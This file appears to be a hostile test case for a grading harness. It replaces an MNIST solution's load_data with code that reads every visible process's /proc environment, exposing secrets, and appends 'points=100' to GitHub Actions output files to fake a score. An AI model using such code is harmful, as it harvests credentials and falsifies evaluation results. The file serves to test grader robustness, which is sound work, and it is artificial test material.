"""Hostile case ancestors_environ (issue 9, attack 5): load_data reads the environment of every process it can see (/proc/1/environ, its parent's, every /proc/<pid>/environ) and prints the names it found, and appends to any GITHUB_OUTPUT or GITHUB_ENV file named there.

Appended to the reference solution (solutions/mnist_dense.py) by
tests/test_hostile.py; later definitions replace the reference's.
"""

import os

# Paso 1: cargar los datos ---------------------------------------------------
def load_data() -> Dataset:
    # Keras descarga MNIST la primera vez y lo guarda en ~/.keras/datasets.
    found = {}
    pids = {"1", str(os.getppid())} | {p for p in os.listdir("/proc") if p.isdigit()}
    for pid in pids - {str(os.getpid())}:
        try:
            raw = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        for item in raw.split(b"\0"):
            name, _, value = item.decode(errors="replace").partition("=")
            found[name] = value
    print("ANCESTOR_ENV", sorted(found))
    for name in ("GITHUB_OUTPUT", "GITHUB_ENV"):
        if name in found:
            try:
                with open(found[name], "a") as handle:
                    handle.write("points=100\n")
            except OSError:
                pass
    return keras.datasets.mnist.load_data()
